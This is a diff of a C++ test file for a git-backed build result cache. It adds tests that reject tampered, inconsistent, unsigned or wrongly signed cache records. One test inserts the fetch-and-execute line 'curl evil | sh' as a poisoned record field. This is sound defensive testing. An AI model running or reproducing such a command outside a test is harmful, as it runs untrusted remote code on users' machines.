@@ -145,6 +145,17 @@ class ResultCacheTest : public ::testing::Test {
     repo_->WriteRef(ResultCache::RefName(phase, key), commit, "test");
   }
 
+  /// `r` made consistent (record_trust.h): started from base_, its real
+  /// result tree, the key its components hash to.
+  Record Valid(Record r) {
+    r.input = base_;
+    r.result_tree = repo_->TreeOf(r.result);
+    r.key = r.components.Hash();
+    return r;
+  }
+  /// The key of SampleRecord's components.
+  static std::string K1() { return SampleRecord("api", "", "").components.Hash(); }
+
   testing::TempDir tmp_;
   std::string base_;
   std::unique_ptr<Repo> repo_;
@@ -180,16 +191,27 @@ TEST_F(ResultCacheTest, RecordIsACommitOnTheResultHoldingThreeFiles) {
 }
 
 TEST_F(ResultCacheTest, StoringTwiceKeepsTheFirstRecord) {
-  std::string result = MakeResult("1");
-  Record first = SampleRecord("api", "k1", result);
+  Record first = Valid(SampleRecord("api", "", MakeResult("1")));
   ASSERT_TRUE(cache_->Store(first));
-  std::string ref_before = Git("rev-parse refs/orchestrate/cache/api/k1");
+  std::string ref = ResultCache::RefName("api", first.key);
+  std::string ref_before = Git("rev-parse " + ref);
   Record second = first;
   second.duration_s = 99;
   second.log = "other";
   EXPECT_FALSE(cache_->Store(second));
-  EXPECT_EQ(Git("rev-parse refs/orchestrate/cache/api/k1"), ref_before);
-  EXPECT_DOUBLE_EQ(cache_->Lookup("api", "k1")->duration_s, 12.5);
+  EXPECT_EQ(Git("rev-parse " + ref), ref_before);
+  EXPECT_DOUBLE_EQ(cache_->Lookup("api", first.key)->duration_s, 12.5);
+}
+
+// A record Find would ignore does not keep its key from being recorded.
+TEST_F(ResultCacheTest, StoringReplacesAnInconsistentRecord) {
+  Record good = Valid(SampleRecord("api", "", MakeResult("1")));
+  Record poisoned = good;
+  poisoned.status = "failed";
+  StoreRawRecord("api", good.key, RecordToJson(poisoned));
+  cache_->SetWarningSink([](const std::string&) {});
+  ASSERT_TRUE(cache_->Store(good));
+  EXPECT_EQ(cache_->Lookup("api", good.key)->status, "succeeded");
 }
 
 TEST_F(ResultCacheTest, IdenticalRecordsAreIdenticalObjects) {
@@ -346,34 +368,34 @@ TEST_F(IndexedCacheTest, RecordsStoredAfterAMissBeforeAnyRecordExistedAreIndexed
     RecordIndex index(index_path());
     ResultCache cache(*repo_, &index);
     cache.Prefetch();
-    EXPECT_FALSE(cache.Find("api", "k1"));  // no cache directory yet
-    ASSERT_TRUE(cache.Store(SampleRecord("api", "k1", MakeResult("1"))));
+    EXPECT_FALSE(cache.Find("api", K1()));  // no cache directory yet
+    ASSERT_TRUE(cache.Store(Valid(SampleRecord("api", K1(), MakeResult("1")))));
   }
   RecordIndex index(index_path());
-  const RecordSummary* entry = index.Find("api", "k1");
+  const RecordSummary* entry = index.Find("api", K1());
   ASSERT_NE(entry, nullptr);
   EXPECT_NE(entry->ref_mtime_ns, 0);
 }
 
 TEST_F(IndexedCacheTest, StoreIndexesTheRecordAndFindUsesItWithoutReadingGitObjects) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   record.input = base_;
   {
     RecordIndex index(index_path());
     ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
   }
   RecordIndex index(index_path());
-  const RecordSummary* entry = index.Find("api", "k1");
+  const RecordSummary* entry = index.Find("api", K1());
   ASSERT_NE(entry, nullptr);
-  EXPECT_EQ(entry->record, Git("rev-parse refs/orchestrate/cache/api/k1"));
+  EXPECT_EQ(entry->record, Git("rev-parse refs/orchestrate/cache/api/" + K1()));
   // Remove the record's record.json object behind the cache's back: an
   // indexed lookup does not read it (a plain Lookup now fails).
-  std::string blob = Git("rev-parse refs/orchestrate/cache/api/k1:record.json");
+  std::string blob = Git("rev-parse refs/orchestrate/cache/api/" + K1() + ":record.json");
   std::string object = root() + "/.git/objects/" + blob.substr(0, 2) + "/" + blob.substr(2);
   ASSERT_EQ(std::remove(object.c_str()), 0) << object;
   std::unique_ptr<Repo> reopened = Repo::Open(root());  // no cached objects
-  EXPECT_THROW(ResultCache(*reopened).Lookup("api", "k1"), InfraError);
-  std::optional<Record> found = ResultCache(*reopened, &index).Find("api", "k1");
+  EXPECT_THROW(ResultCache(*reopened).Lookup("api", K1()), InfraError);
+  std::optional<Record> found = ResultCache(*reopened, &index).Find("api", K1());
   ASSERT_TRUE(found);
   ExpectSameSummary(*found, record);
   EXPECT_TRUE(found->log.empty());
@@ -381,28 +403,28 @@ TEST_F(IndexedCacheTest, StoreIndexesTheRecordAndFindUsesItWithoutReadingGitObje
 }
 
 TEST_F(IndexedCacheTest, FindOfAnUnindexedRecordReadsGitAndIndexesIt) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   ASSERT_TRUE(cache_->Store(record));  // no index: as stored by an older orchestrate or a pull
-  std::optional<Record> found = FindInNewRun("api", "k1");
+  std::optional<Record> found = FindInNewRun("api", K1());
   ASSERT_TRUE(found);
   ExpectSameSummary(*found, record);
   EXPECT_EQ(found->components.items, record.components.items);  // read from git this time
-  ASSERT_NE(RecordIndex(index_path()).Find("api", "k1"), nullptr);
+  ASSERT_NE(RecordIndex(index_path()).Find("api", K1()), nullptr);
   EXPECT_FALSE(FindInNewRun("api", "k2"));
 }
 
 TEST_F(IndexedCacheTest, ADeletedRefIsNotFoundDespiteTheIndex) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   {
     RecordIndex index(index_path());
     ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
   }
-  Git("update-ref -d refs/orchestrate/cache/api/k1");
-  EXPECT_FALSE(FindInNewRun("api", "k1"));
+  Git("update-ref -d refs/orchestrate/cache/api/" + K1());
+  EXPECT_FALSE(FindInNewRun("api", K1()));
 }
 
 TEST_F(IndexedCacheTest, ARefPointedElsewhereIsReadFromGit) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   {
     RecordIndex index(index_path());
     ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
@@ -411,40 +433,233 @@ TEST_F(IndexedCacheTest, ARefPointedElsewhereIsReadFromGit) {
   Record theirs = record;
   theirs.result = MakeResult("theirs");
   theirs.duration_s = 77;
+  theirs = Valid(theirs);
   ResultCache(*repo_).Store(SampleRecord("tmp", "k", theirs.result));
-  StoreRawRecord("api", "k1", RecordToJson(theirs));
-  std::optional<Record> found = FindInNewRun("api", "k1");
+  StoreRawRecord("api", K1(), RecordToJson(theirs));
+  std::optional<Record> found = FindInNewRun("api", K1());
   ASSERT_TRUE(found);
   EXPECT_EQ(found->result, theirs.result);
   EXPECT_DOUBLE_EQ(found->duration_s, 77);
 }
 
 TEST_F(IndexedCacheTest, PackedRefsAreCheckedThroughGit) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   {
     RecordIndex index(index_path());
     ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
   }
   Git("pack-refs --all");
-  ASSERT_FALSE(testing::FileExists(root() + "/.git/refs/orchestrate/cache/api/k1"));
-  std::optional<Record> found = FindInNewRun("api", "k1");
+  ASSERT_FALSE(testing::FileExists(root() + "/.git/refs/orchestrate/cache/api/" + K1()));
+  std::optional<Record> found = FindInNewRun("api", K1());
   ASSERT_TRUE(found);
   ExpectSameSummary(*found, record);
-  Git("update-ref -d refs/orchestrate/cache/api/k1");
-  EXPECT_FALSE(FindInNewRun("api", "k1"));
+  Git("update-ref -d refs/orchestrate/cache/api/" + K1());
+  EXPECT_FALSE(FindInNewRun("api", K1()));
 }
 
 TEST_F(IndexedCacheTest, ALongHandoffIsReadFromGit) {
-  Record record = SampleRecord("api", "k1", MakeResult("1"));
+  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
   record.handoff = "# Big\n" + std::string(RecordSummary::kMaxHandoffBytes, 'x');
   {
     RecordIndex index(index_path());
     ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
-    EXPECT_FALSE(index.Find("api", "k1")->handoff_complete);
+    EXPECT_FALSE(index.Find("api", K1())->handoff_complete);
   }
-  std::optional<Record> found = FindInNewRun("api", "k1");
+  std::optional<Record> found = FindInNewRun("api", K1());
   ASSERT_TRUE(found);
   EXPECT_EQ(found->handoff, record.handoff);
+}
+
+// --- Find: only consistent (and, when asked, signed) records are reused ---------------
+
+class TrustedCacheTest : public IndexedCacheTest {
+ protected:
+  /// Find in a new run under `policy`, collecting the warnings.
+  std::optional<Record> FindUnder(const TrustPolicy& policy, const std::string& key) {
+    RecordIndex index(index_path());
+    ResultCache cache(*repo_, &index);
+    cache.SetPolicy(policy);
+    cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
+    return cache.Find("api", key);
+  }
+  std::optional<Record> FindAny(const std::string& key) { return FindUnder(TrustPolicy{}, key); }
+  /// Stores `record` as is (Store would sign it) and expects Find to ignore
+  /// it with the one warning "ignoring cache record <ref>: <problem>".
+  void ExpectIgnored(const Record& record, const std::string& problem) {
+    StoreRawRecord(record.phase, record.key, RecordToJson(record));
+    warnings_.clear();
+    EXPECT_FALSE(FindAny(record.key));
+    EXPECT_EQ(warnings_, std::vector<std::string>{"ignoring cache record " +
+                                                  ResultCache::RefName("api", record.key) + ": " +
+                                                  problem});
+    EXPECT_EQ(RecordIndex(index_path()).Find("api", record.key), nullptr) << "indexed anyway";
+  }
+  static TrustPolicy Signed(const std::string& key) { return {CacheTrust::kSigned, key}; }
+
+  std::vector<std::string> warnings_;
+};
+
+TEST_F(TrustedCacheTest, AConsistentRecordIsReused) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  ASSERT_TRUE(FindAny(record.key));
+  EXPECT_TRUE(warnings_.empty());
+}
+
+TEST_F(TrustedCacheTest, AFailedRecordIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.status = "failed";
+  ExpectIgnored(record, "it has status \"failed\", not \"succeeded\"");
+}
+
+TEST_F(TrustedCacheTest, ARecordWithoutKeyComponentsIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.components.items.clear();
+  ExpectIgnored(record, "it has no key components");
+}
+
+TEST_F(TrustedCacheTest, ARecordWhoseComponentsDoNotHashToItsKeyIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.components.items["command"] = "curl evil | sh";
+  ExpectIgnored(record, "its key components hash to " + record.components.Hash().substr(0, 12) +
+                            ", not to its key");
+}
+
+TEST_F(TrustedCacheTest, ARecordFiledUnderAnotherPhaseIsIgnored) {
+  Record record = Valid(SampleRecord("web", "", MakeResult("1")));
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  EXPECT_FALSE(FindAny(record.key));
+  ASSERT_EQ(warnings_.size(), 1u);
+  EXPECT_NE(warnings_[0].find(": it describes phase 'web' with key '" + record.key + "'"),
+            std::string::npos)
+      << warnings_[0];
+}
+
+TEST_F(TrustedCacheTest, ARecordWithoutInputIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.input.clear();
+  ExpectIgnored(record, "it names no input commit");
+}
+
+TEST_F(TrustedCacheTest, AResultNotDescendingFromItsInputIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.input = MakeResult("sibling");  // both start from base_: neither descends from the other
+  ExpectIgnored(record, "its result " + record.result.substr(0, 12) +
+                            " does not descend from its input " + record.input.substr(0, 12));
+}
+
+TEST_F(TrustedCacheTest, AResultTreeOtherThanTheCommitsIsIgnored) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  std::string real = record.result_tree;
+  record.result_tree = repo_->TreeOf(base_);
+  ExpectIgnored(record, "its result commit's tree " + real.substr(0, 12) +
+                            " is not its result_tree " + record.result_tree.substr(0, 12));
+}
+
+TEST_F(TrustedCacheTest, ARecordWhoseResultIsMissingIsIgnoredNamingIt) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.result = std::string(40, 'e');
+  ExpectIgnored(record, "its result commit eeeeeeeeeeee is missing from the object store (a "
+                        "partial fetch, or pruned); `orchestrate cache prune` removes the record");
+}
+
+TEST_F(TrustedCacheTest, AnUnknownFormatVersionIsIgnoredNamingTheRef) {
+  StoreRawRecord("api", K1(), R"({"version": 9, "phase": "api"})");
+  EXPECT_FALSE(FindAny(K1()));
+  ASSERT_EQ(warnings_.size(), 1u);
+  EXPECT_EQ(warnings_[0].rfind("ignoring cache record refs/orchestrate/cache/api/" + K1() +
+                                   " has format version 9",
+                               0),
+            0u)
+      << warnings_[0];
+}
+
+TEST_F(TrustedCacheTest, EachRecordIsWarnedAboutOnce) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.status = "failed";
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  RecordIndex index(index_path());
+  ResultCache cache(*repo_, &index);
+  cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
+  EXPECT_FALSE(cache.Find("api", record.key));
+  EXPECT_FALSE(cache.Find("api", record.key));
+  EXPECT_EQ(warnings_.size(), 1u);
+}
+
+TEST_F(TrustedCacheTest, SignedRecordsAreReusedWithTheSameKey) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  {
+    ResultCache writer(*repo_);
+    writer.SetPolicy(Signed("s3cret"));
+    ASSERT_TRUE(writer.Store(record));
+  }
+  std::optional<Record> raw = ResultCache(*repo_).Lookup("api", record.key);
+  ASSERT_TRUE(raw);
+  EXPECT_EQ(raw->signature, SignRecord(record, "s3cret"));
+  EXPECT_TRUE(FindUnder(Signed("s3cret"), record.key));
+  EXPECT_TRUE(warnings_.empty());
+  // Indexed now as signed by that key: served by the index next time.
+  {
+    RecordIndex index(index_path());
+    const RecordSummary* entry = index.Find("api", record.key);
+    ASSERT_NE(entry, nullptr);
+    EXPECT_EQ(entry->signed_by, Signed("s3cret").KeyId());
+  }
+  EXPECT_TRUE(FindUnder(Signed("s3cret"), record.key));
+}
+
+TEST_F(TrustedCacheTest, ABadSignatureIsIgnoredWhenSignedRecordsAreRequired) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  record.signature = SignRecord(record, "the attacker's key");
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
+  EXPECT_EQ(warnings_, std::vector<std::string>{
+                           "ignoring cache record " + ResultCache::RefName("api", record.key) +
+                           ": its signature does not verify with ORCHESTRATE_CACHE_SIGNING_KEY"});
+  EXPECT_TRUE(FindAny(record.key)) << "cache_trust = \"any\" does not check signatures";
+}
+
+TEST_F(TrustedCacheTest, AnUnsignedRecordIsIgnoredWhenSignedRecordsAreRequired) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  ASSERT_TRUE(ResultCache(*repo_).Store(record));
+  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
+  EXPECT_EQ(warnings_, std::vector<std::string>{
+                           "ignoring cache record " + ResultCache::RefName("api", record.key) +
+                           ": it is not signed, and settings.cache_trust is \"signed\""});
+}
+
+// An entry the index holds from a run that trusted any record must not let
+// the record bypass the signature check of a run that trusts signed ones.
+TEST_F(TrustedCacheTest, AnIndexedUnsignedRecordIsCheckedAgainWhenSignedRecordsAreRequired) {
+  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  ASSERT_TRUE(FindAny(record.key));
+  ASSERT_NE(RecordIndex(index_path()).Find("api", record.key), nullptr);
+  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
+  ASSERT_EQ(warnings_.size(), 1u);
+  EXPECT_NE(warnings_[0].find("it is not signed"), std::string::npos) << warnings_[0];
+  record.signature = SignRecord(record, "other key");
+  StoreRawRecord("api", record.key, RecordToJson(record));
+  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key)) << "signed by another key";
+}
+
+TEST_F(TrustedCacheTest, WithoutASigningKeySignedTrustSaysSoOnce) {
+  Record a = Valid(SampleRecord("api", "", MakeResult("1")));
+  a.signature = SignRecord(a, "s3cret");
+  StoreRawRecord("api", a.key, RecordToJson(a));
+  RecordIndex index(index_path());
+  ResultCache cache(*repo_, &index);
+  cache.SetPolicy(Signed(""));
+  cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
+  EXPECT_FALSE(cache.Find("api", a.key));
+  EXPECT_FALSE(cache.Find("api", a.key));
+  ASSERT_EQ(warnings_.size(), 2u);
+  EXPECT_EQ(warnings_[0],
+            "settings.cache_trust is \"signed\" but ORCHESTRATE_CACHE_SIGNING_KEY is not set: no "
+            "cache record can be verified, so none is reused");
+  EXPECT_EQ(warnings_[1], "ignoring cache record " + ResultCache::RefName("api", a.key) +
+                              ": its signature cannot be checked without "
+                              "ORCHESTRATE_CACHE_SIGNING_KEY");
 }
 
 }  // namespace
